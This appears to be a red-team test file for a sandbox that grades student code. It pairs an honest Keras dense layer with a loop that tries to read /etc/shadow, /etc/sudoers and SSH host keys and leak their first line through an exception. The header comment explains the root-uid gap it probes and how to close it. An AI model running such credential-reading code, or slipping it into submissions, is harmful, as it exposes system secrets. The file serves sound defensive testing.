# RED TEAM (fails where the subject runs as root without capabilities, as on a machine whose Python
# lives under /root). Landlock lets the subject read beneath /etc, /usr, /opt, /proc, /sys and the
# Python installation, and there, as uid 0, file modes do not stop it: it reads root-only files such
# as /etc/shadow, /etc/gshadow, /etc/sudoers or SSH host keys, and raises their first line from
# build(), into every message a student sees. As nobody (the usual case as root) they are unreadable.
# Fix: never run student code as uid 0: give the subject a uid of its own (a user namespace mapping
# uid 0 to an unprivileged id, or a dedicated account, with the Python made readable to it), or
# grant Landlock only the folders Python needs (its prefix and /usr/lib, not all of /etc).
# Contained, it finds nothing to read and its honest code (a correct layer) earns full marks.
# expect: full
# absent: root:
# absent: PRIVATE KEY
# limits: timeout_s=60
import glob

GOT = ""
for path in ["/etc/shadow", "/etc/gshadow", "/etc/sudoers"] + glob.glob("/etc/ssh/ssh_host_*_key"):
    try:
        with open(path) as secret:
            GOT = f"{path}: {secret.readline().strip()}"
            break
    except OSError:
        continue


class SimpleDense(tf.keras.layers.Layer):
    def __init__(self, units=32):
        super().__init__()
        self.units = units

    def build(self, input_shape):
        if GOT:
            raise RuntimeError(f"escaped: {GOT}")
        self.kernel = self.add_weight(name="kernel", shape=(input_shape[-1], self.units),
                                      initializer=tf.random_normal_initializer(), trainable=True)
        self.bias = self.add_weight(name="bias", shape=(self.units,), initializer="zeros", trainable=True)

    def call(self, inputs):
        return tf.matmul(inputs, self.kernel) + self.bias
